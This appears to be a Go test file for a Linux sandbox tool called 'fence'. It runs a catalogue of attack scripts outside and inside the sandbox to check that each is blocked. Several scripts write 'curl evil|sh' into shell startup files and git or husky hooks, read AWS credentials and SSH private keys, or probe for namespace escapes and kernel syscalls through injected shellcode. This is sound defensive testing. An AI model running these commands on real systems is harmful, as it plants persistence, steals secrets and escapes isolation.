@@ -1,0 +1,401 @@
+package sandbox_test
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/fence-dev/fence/sandbox/sandboxtest"
+)
+
+// attack is one ATTACKS.md variant. Every attack runs twice, on fresh
+// homes: once without the sandbox, where it must work (so the test can
+// fail), and once inside, where it must not.
+type attack struct {
+	name   string
+	config string
+	setup  func(t *testing.T, e *sandboxtest.Env)
+	script string
+	// worked reports whether the attack achieved its effect.
+	worked func(e *sandboxtest.Env, r sandboxtest.Result) bool
+	// noControl skips the run without the sandbox, for attacks that are
+	// unsafe or meaningless outside (the reason is the value).
+	noControl string
+}
+
+func gitInit(t *testing.T, e *sandboxtest.Env) {
+	t.Helper()
+	for _, args := range [][]string{
+		{"init", "-q"}, {"config", "user.email", "t@example.com"}, {"config", "user.name", "t"},
+		{"config", "commit.gpgsign", "false"},
+	} {
+		cmd := exec.Command("git", args...)
+		cmd.Dir = e.Project
+		cmd.Env = e.Vars
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	e.Write("README", "hello\n")
+}
+
+func changed(rel, orig string) func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+	return func(e *sandboxtest.Env, r sandboxtest.Result) bool { return e.Read(rel) != orig }
+}
+
+func exists(rel string) func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+	return func(e *sandboxtest.Env, r sandboxtest.Result) bool { return e.Exists(rel) }
+}
+
+func printed(s string) func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+	return func(e *sandboxtest.Env, r sandboxtest.Result) bool { return strings.Contains(r.Stdout, s) }
+}
+
+func withBashrc(t *testing.T, e *sandboxtest.Env) { e.Write("~/.bashrc", "# rc\n") }
+
+func withRepo(t *testing.T, e *sandboxtest.Env) {
+	gitInit(t, e)
+	e.Write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
+}
+
+// pyCall runs one raw syscall with python3's ctypes and prints
+// "RET <value> <errno>".
+func pyCall(nr int, args ...string) string {
+	return fmt.Sprintf(`python3 -c 'import ctypes,sys;l=ctypes.CDLL(None,use_errno=True);l.syscall.restype=ctypes.c_long;r=l.syscall(%d%s);print("RET",r,ctypes.get_errno())'`,
+		nr, func() string {
+			s := ""
+			for _, a := range args {
+				s += "," + a
+			}
+			return s
+		}())
+}
+
+// retOK reports whether a pyCall returned a non-negative value.
+func retOK(e *sandboxtest.Env, r sandboxtest.Result) bool {
+	for _, l := range strings.Split(r.Stdout, "\n") {
+		if f := strings.Fields(l); len(f) == 3 && f[0] == "RET" && !strings.HasPrefix(f[1], "-") {
+			return true
+		}
+	}
+	return false
+}
+
+var attacks = []attack{
+	// §F — filesystem protection.
+	{name: "F-01/bashrc-home-readonly", config: writeDot, setup: withBashrc,
+		script: `echo evil >> ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
+	{name: "F-01/bashrc-home-writable", config: writeDotAndHome, setup: withBashrc,
+		script: `echo evil >> ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
+	{name: "F-01/bashrc-rm", config: writeDotAndHome, setup: withBashrc,
+		script: `rm -f ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
+	{name: "F-01/bashrc-replace-by-rename", config: writeDotAndHome, setup: withBashrc,
+		script: `echo evil > ~/new && mv ~/new ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
+	{name: "F-01/git-config-append", config: writeDot, setup: withRepo,
+		script: `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read(".git/config"), "evil")
+		}},
+	{name: "F-01/git-config-rm", config: writeDot, setup: withRepo,
+		script: `rm -f .git/config`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return !e.Exists(".git/config") }},
+	{name: "F-01/git-config-mv", config: writeDot, setup: withRepo,
+		script: `mv .git/config x`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return !e.Exists(".git/config") }},
+	{name: "F-01/git-hook-write", config: writeDot, setup: withRepo,
+		script: `echo 'id' >> .git/hooks/pre-commit`, worked: changed(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
+	{name: "F-01/git-hook-new", config: writeDot, setup: withRepo,
+		script: `printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout`, worked: exists(".git/hooks/post-checkout")},
+	{name: "C-07/fence-toml-append", config: writeDot,
+		script: `echo '# evil' >> .fence.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read(".fence.toml"), "evil")
+		}},
+	{name: "C-07/fence-toml-mv", config: writeDot,
+		script: `mv .fence.toml x.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return !e.Exists(".fence.toml") }},
+	{name: "C-07/fence-toml-sed", config: writeDot,
+		script: `sed -i 's/allowWrite/allowWrite2/' .fence.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read(".fence.toml"), "allowWrite2")
+		}},
+	{name: "C-14/user-config", config: writeDotAndHome,
+		script: `mkdir -p ~/.config/fence && echo '[network]' > ~/.config/fence/config.toml`, worked: exists("~/.config/fence/config.toml")},
+	{name: "F-02/rename-dotgit", config: writeDot, setup: withRepo,
+		script: `mv .git .git.old && mkdir -p .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return e.Exists(".git.old") }},
+	{name: "F-02/rename-hooks-dir", config: writeDot, setup: withRepo,
+		script: `mv .git/hooks .git/hooks.old && mkdir .git/hooks && echo id > .git/hooks/pre-commit`,
+		worked: exists(".git/hooks.old")},
+	{name: "F-02/rename-config-dir", config: writeDotAndHome,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.config/git/config", "[user]\n") },
+		script: `mv ~/.config ~/.config2 && mkdir -p ~/.config/git && echo '[core]' > ~/.config/git/config`,
+		worked: exists("~/.config2")},
+	{name: "F-02/rename-project", config: writeDot, setup: withRepo,
+		script: `cd .. && mv proj proj2`, worked: exists("~/proj2")},
+	{name: "F-03/hardlinked-envrc", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("notes.txt", "x\n")
+			if err := os.Link(e.Path("notes.txt"), e.Path(".envrc")); err != nil {
+				t.Fatal(err)
+			}
+		},
+		script: `echo 'curl evil|sh' >> notes.txt`, worked: changed(".envrc", "x\n")},
+	{name: "F-03/hardlinked-bashrc", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("~/.bashrc", "x\n")
+			if err := os.Link(e.Path("~/.bashrc"), e.Path("notes.txt")); err != nil {
+				t.Fatal(err)
+			}
+		},
+		script: `echo 'curl evil|sh' >> notes.txt`, worked: changed("~/.bashrc", "x\n")},
+	{name: "F-04/link-git-config", config: writeDot, setup: withRepo,
+		script: `ln .git/config cfg && echo '[core]fsmonitor=evil' >> cfg`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read(".git/config"), "evil")
+		}},
+	{name: "F-04/link-bashrc", config: writeDotAndHome, setup: withBashrc,
+		script: `ln ~/.bashrc b && echo evil >> b`, worked: changed("~/.bashrc", "# rc\n")},
+	{name: "F-05/symlink-bashrc", config: writeDot, setup: withBashrc,
+		script: `ln -s ~/.bashrc x && echo evil >> x`, worked: changed("~/.bashrc", "# rc\n")},
+	{name: "F-05/symlink-git-config", config: writeDot, setup: withRepo,
+		script: `ln -s .git/config y && echo '[core]fsmonitor=evil' >> y`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read(".git/config"), "evil")
+		}},
+	{name: "F-06/replace-symlinked-bashrc", config: writeDotAndHome,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("~/dotfiles/bashrc", "# rc\n")
+			if err := os.Symlink("dotfiles/bashrc", e.Path("~/.bashrc")); err != nil {
+				t.Fatal(err)
+			}
+		},
+		script: `echo 'curl evil|sh' > ~/r && ln -sfn r ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
+	{name: "F-07/envrc", config: writeDot,
+		script: `printf 'curl -s evil|sh\n' > .envrc`, worked: exists(".envrc")},
+	{name: "F-07/vscode-tasks", config: writeDot,
+		script: `mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json`, worked: exists(".vscode/tasks.json")},
+	{name: "F-07/claude-settings", config: writeDot,
+		script: `mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json`, worked: exists(".claude/settings.json")},
+	{name: "F-07/mcp-json", config: writeDot,
+		script: `echo '{}' > .mcp.json`, worked: exists(".mcp.json")},
+	{name: "F-07/zshenv", config: writeDotAndHome,
+		script: `echo 'curl evil|sh' > ~/.zshenv`, worked: exists("~/.zshenv")},
+	{name: "F-07/fish-conf", config: writeDotAndHome,
+		script: `mkdir -p ~/.config/fish/conf.d && echo 'id' > ~/.config/fish/conf.d/x.fish`, worked: exists("~/.config/fish/conf.d/x.fish")},
+	{name: "F-08/recreate-hooks", config: writeDot,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); os.RemoveAll(e.Path(".git/hooks")) },
+		script: `mkdir .git/hooks && printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout`, worked: exists(".git/hooks/post-checkout")},
+	{name: "F-09/commondir", config: writeDot, setup: withRepo,
+		script: `mkdir -p .cache/c && printf '[core]\n\tfsmonitor = evil\n' > .cache/c/config && echo ../.cache/c > .git/commondir`,
+		worked: exists(".git/commondir")},
+	{name: "F-12/husky", config: writeDot,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { gitInit(t, e); e.Write(".husky/pre-commit", "npm test\n") },
+		script: `echo 'curl evil|sh' >> .husky/pre-commit`, worked: changed(".husky/pre-commit", "npm test\n")},
+	{name: "F-13/global-git-config", config: writeDotAndHome,
+		script: `mkdir -p ~/.config/git && printf '[core]\n\tfsmonitor = evil\n' > ~/.config/git/config`, worked: exists("~/.config/git/config")},
+	{name: "F-15/local-bin", config: writeDotAndHome,
+		script: `mkdir -p ~/.local/bin && printf '#!/bin/sh\nid\n' > ~/.local/bin/git`, worked: exists("~/.local/bin/git")},
+	{name: "F-15/ssh-config", config: writeDotAndHome,
+		script: `echo 'Host *' >> ~/.ssh/config`, worked: exists("~/.ssh/config")},
+	{name: "F-18/parent-repo-from-subdir",
+		config: "[filesystem]\nallowWrite = [\"sub\"]\n",
+		setup:  func(t *testing.T, e *sandboxtest.Env) { withRepo(t, e); os.MkdirAll(e.Path("sub"), 0o755) },
+		script: `echo 'id' >> .git/hooks/pre-commit`, worked: changed(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
+	{name: "F-22/denyread-dir", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\"~/.aws\"]\n",
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.aws/credentials", "SECRET-KEY\n") },
+		script: `cat ~/.aws/credentials`, worked: printed("SECRET-KEY")},
+	{name: "F-22/denyread-file", config: "[filesystem]\nallowWrite = [\".\"]\ndenyRead = [\".env.production\"]\n",
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write(".env.production", "SECRET-KEY\n") },
+		script: `cat .env.production; cp .env.production /tmp/x 2>/dev/null; cat /tmp/x`, worked: printed("SECRET-KEY")},
+	{name: "F-22/default-ssh-key", config: writeDot,
+		setup:  func(t *testing.T, e *sandboxtest.Env) { e.Write("~/.ssh/id_ed25519", "PRIVATE-KEY\n") },
+		script: `cat ~/.ssh/id_ed25519`, worked: printed("PRIVATE-KEY")},
+	{name: "F-24/unshare-remount", config: writeDot, setup: withRepo,
+		script: `unshare -Urm sh -c 'mount --bind . .git/hooks && echo REMOUNTED'`, worked: printed("REMOUNTED")},
+	{name: "F-24/open-tree", config: writeDot,
+		script: pyCall(428, "-100", "b'/'", "1|0x8000"), worked: retOK},
+	{name: "F-24/fsopen", config: writeDot,
+		script: pyCall(430, "b'tmpfs'", "0"), worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			// Outside, fsopen fails with EPERM too (no CAP_SYS_ADMIN); the
+			// sandbox must answer EPERM from seccomp as well, not succeed.
+			return retOK(e, r)
+		}, noControl: "fsopen needs CAP_SYS_ADMIN outside too"},
+	{name: "F-25/write-home-file", config: writeDot,
+		script: `echo x > ~/planted`, worked: exists("~/planted")},
+	{name: "F-25/write-parent", config: writeDot,
+		script: `echo x > ../planted`, worked: exists("~/planted")},
+	{name: "F-26/host-devices", config: writeDot,
+		script: `for d in /dev/kmsg /dev/vda /dev/tty0 /dev/mem /dev/fuse; do test -e $d && echo FOUND $d; done`, worked: printed("FOUND")},
+	{name: "F-27/shared-tmp", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			f, err := os.CreateTemp("", "fence-host-tmp-")
+			if err != nil {
+				t.Fatal(err)
+			}
+			f.Close()
+			t.Cleanup(func() { os.Remove(f.Name()) })
+			e.Write("tmpname", f.Name())
+		},
+		script: `test -e "$(cat tmpname)" && echo HOST-TMP-VISIBLE`, worked: printed("HOST-TMP-VISIBLE")},
+
+	// §K — privileges and kernel surface.
+	{name: "K-01/no-new-privs", config: writeDot,
+		script: `grep -q 'NoNewPrivs:.*0' /proc/self/status && echo CAN-GAIN-PRIVS`, worked: printed("CAN-GAIN-PRIVS")},
+	{name: "K-01/bounding-set", config: writeDot,
+		script: `grep -q 'CapBnd:.*[1-9a-f]' /proc/self/status && echo HAS-BOUNDING-CAPS`, worked: printed("HAS-BOUNDING-CAPS")},
+	{name: "K-03/unshare-user", config: writeDot,
+		script: `unshare -Ur true && echo NESTED-USERNS`, worked: printed("NESTED-USERNS")},
+	{name: "K-03/unshare-user-net", config: writeDot,
+		script: `unshare -Urn ip link add d0 type dummy && echo NESTED-NET-ADMIN`, worked: printed("NESTED-NET-ADMIN")},
+	{name: "K-03/unshare-pid-mount", config: writeDot,
+		script: `unshare -Urmpf --mount-proc sh -c 'echo NESTED-PIDNS'`, worked: printed("NESTED-PIDNS")},
+	{name: "K-03/python-unshare-syscall", config: writeDot,
+		script: pyCall(272, "0x10000000"), worked: retOK}, // unshare(CLONE_NEWUSER)
+	{name: "K-05/keyring", config: writeDot,
+		script: pyCall(250, "0", "-3", "0"), worked: retOK}, // keyctl(GET_KEYRING_ID, @s)
+	{name: "K-05/add-key", config: writeDot,
+		script: pyCall(248, "b'user'", "b'k'", "b'v'", "1", "-3"), worked: retOK},
+	{name: "K-06/userfaultfd", config: writeDot,
+		script: pyCall(323, "1"), worked: retOK}, // UFFD_USER_MODE_ONLY
+	{name: "K-06/io-uring", config: writeDot,
+		script: `python3 -c 'import ctypes;l=ctypes.CDLL(None,use_errno=True);p=ctypes.create_string_buffer(120);r=l.syscall(425,4,p);print("RET",r,ctypes.get_errno())'`, worked: retOK},
+	{name: "K-06/personality", config: writeDot,
+		script: pyCall(135, "0x0400000"), worked: retOK}, // READ_IMPLIES_EXEC
+	{name: "K-09/ssh-agent-env", config: writeDot,
+		script: `env | grep -q SSH_AUTH_SOCK && echo LEAKED`, worked: printed("LEAKED"),
+		setup: func(t *testing.T, e *sandboxtest.Env) { e.Vars = append(e.Vars, "SSH_AUTH_SOCK=/tmp/ssh-x/agent.1") }},
+
+	// §X — processes, /proc, fds.
+	{name: "X-01/ptrace-strace", config: writeDot,
+		script: `strace -o /dev/null true && echo TRACED`, worked: printed("TRACED")},
+	{name: "X-01/ptrace-traceme", config: writeDot,
+		script: pyCall(101, "0", "0", "0", "0"), worked: retOK},
+	{name: "X-02/read-launcher-environ", config: writeDot,
+		// Outside: the parent (same user) is readable. Inside, the parent
+		// is the sandbox init, which must not be.
+		script: `cat /proc/$PPID/environ >/dev/null && echo READ-PARENT; cat /proc/1/environ > /dev/null 2>&1 && [ "$PPID" = 1 ] && echo READ-INIT`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(r.Stdout, "READ-PARENT") || strings.Contains(r.Stdout, "READ-INIT")
+		}},
+	{name: "X-03/pidfd-getfd", config: writeDot,
+		script: `python3 -c '
+import ctypes,os
+l=ctypes.CDLL(None,use_errno=True)
+pfd=l.syscall(434,os.getppid(),0)
+r=l.syscall(438,pfd,0,0)
+print("RET",r,ctypes.get_errno())'`, worked: retOK},
+	{name: "X-03/process-vm-readv", config: writeDot,
+		script: `python3 -c '
+import ctypes,os
+l=ctypes.CDLL(None,use_errno=True)
+b=ctypes.create_string_buffer(8)
+class iov(ctypes.Structure): _fields_=[("b",ctypes.c_void_p),("n",ctypes.c_size_t)]
+loc=iov(ctypes.addressof(b),8); rem=iov(ctypes.addressof(b),8)
+r=l.syscall(310,os.getpid(),ctypes.byref(loc),1,ctypes.byref(rem),1,0)
+print("RET",r,ctypes.get_errno())'`, worked: retOK},
+	{name: "X-04/i386-keyctl", config: writeDot, script: i386Keyctl,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return retOK(e, r) }},
+	{name: "X-05/kill-outside", config: writeDot, setup: withOutsideSleeper,
+		script: `kill -9 $(cat sleeper.pid) && echo KILLED`, worked: printed("KILLED")},
+	{name: "X-06/proc-of-outside", config: writeDot, setup: withOutsideSleeper,
+		script: `test -e /proc/$(cat sleeper.pid)/environ && echo VISIBLE`, worked: printed("VISIBLE")},
+	{name: "X-06/many-processes", config: writeDot,
+		script: `n=$(ls -d /proc/[0-9]* | wc -l); [ $n -gt 10 ] && echo SEES-HOST-PROCS`, worked: printed("SEES-HOST-PROCS")},
+	{name: "X-11/core-dumps", config: writeDot,
+		script: `ulimit -c unlimited && echo CORE-ENABLED`, worked: printed("CORE-ENABLED")},
+
+	// §C — control plane reachable through the filesystem.
+	{name: "C-01/runtime-dir-socket", config: writeDot, setup: withRuntimeSocket,
+		script: `python3 -c 'import socket,os;s=socket.socket(socket.AF_UNIX);s.connect(os.environ["XDG_RUNTIME_DIR"]+"/fence/ctl.sock");print("CONNECTED")'`,
+		worked: printed("CONNECTED")},
+	{name: "C-01/run-user-socket-by-path", config: writeDot, setup: withRuntimeSocket,
+		script: `ls "$(cat rtdir)/fence/" | grep -q ctl.sock && echo LISTED`, worked: printed("LISTED")},
+	{name: "C-05/nested-fence", config: writeDot,
+		script: `"$(cat fencepath)" -- true && echo NESTED-FENCE-RAN`, worked: printed("NESTED-FENCE-RAN"),
+		setup: func(t *testing.T, e *sandboxtest.Env) { e.Write("fencepath", e.Fence) }},
+
+	// §T — terminal (fs/process parts; TIOCSTI with a real tty is in TestTIOCSTI).
+	{name: "T-05/host-ptys", config: writeDot, setup: withHostPTY,
+		script: `ls /dev/pts | grep -qv ptmx && echo HOST-PTS`, worked: printed("HOST-PTS")},
+	{name: "T-04/tioclinux-console", config: writeDot,
+		script: `test -e /dev/tty1 && echo CONSOLE`, worked: printed("CONSOLE"), noControl: "no virtual console in CI; covered by seccomp test"},
+}
+
+// i386Keyctl calls keyctl(KEYCTL_GET_KEYRING_ID, @s) through the i386
+// entry point (int 0x80, nr 288) from a MAP_32BIT page (ATTACKS.md X-04).
+const i386Keyctl = `python3 -c '
+import ctypes,mmap
+l=ctypes.CDLL(None,use_errno=True)
+l.mmap.restype=ctypes.c_void_p
+l.mmap.argtypes=[ctypes.c_void_p,ctypes.c_size_t,ctypes.c_int,ctypes.c_int,ctypes.c_int,ctypes.c_long]
+p=l.mmap(None,4096,7,0x22|0x40,-1,0)
+code=bytes([0x53,0xb8,0x20,0x01,0,0,0x31,0xdb,0xb9,0xfd,0xff,0xff,0xff,0x31,0xd2,0xcd,0x80,0x5b,0xc3])
+ctypes.memmove(p,code,len(code))
+f=ctypes.CFUNCTYPE(ctypes.c_int)(p)
+print("RET",f(),0)'`
+
+func withOutsideSleeper(t *testing.T, e *sandboxtest.Env) {
+	cmd := exec.Command("sleep", "60")
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
+	e.Write("sleeper.pid", fmt.Sprint(cmd.Process.Pid))
+}
+
+func withRuntimeSocket(t *testing.T, e *sandboxtest.Env) {
+	rt := filepath.Join(e.Base, "run")
+	if err := os.MkdirAll(filepath.Join(rt, "fence"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	ln, err := net.Listen("unix", filepath.Join(rt, "fence", "ctl.sock"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			c.Close()
+		}
+	}()
+	t.Cleanup(func() { ln.Close() })
+	e.Vars = append(e.Vars, "XDG_RUNTIME_DIR="+rt)
+	e.Write("rtdir", rt)
+}
+
+func withHostPTY(t *testing.T, e *sandboxtest.Env) {
+	f, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
+	if err != nil {
+		t.Skip("no /dev/ptmx")
+	}
+	t.Cleanup(func() { f.Close() })
+	// unlockpt is not needed for the slave to show up in /dev/pts.
+}
+
+func TestAttacks(t *testing.T) {
+	for _, a := range attacks {
+		t.Run(a.name, func(t *testing.T) {
+			if a.noControl == "" {
+				c := sandboxtest.New(t, a.config)
+				if a.setup != nil {
+					a.setup(t, c)
+				}
+				r := c.Direct(a.script)
+				if !a.worked(c, r) {
+					t.Fatalf("control: the attack does not work without the sandbox either, so this test proves nothing:\n%s", r.Out())
+				}
+			}
+			e := sandboxtest.New(t, a.config)
+			if a.setup != nil {
+				a.setup(t, e)
+			}
+			r := e.Sh(a.script)
+			if a.worked(e, r) {
+				t.Errorf("the attack worked inside the sandbox (status %d):\n%s", r.Code, r.Out())
+			}
+			if strings.Contains(r.Stderr, "cannot start the sandbox") && !strings.HasPrefix(a.name, "F-03") {
+				t.Errorf("the sandbox did not start:\n%s", r.Stderr)
+			}
+		})
+	}
+}
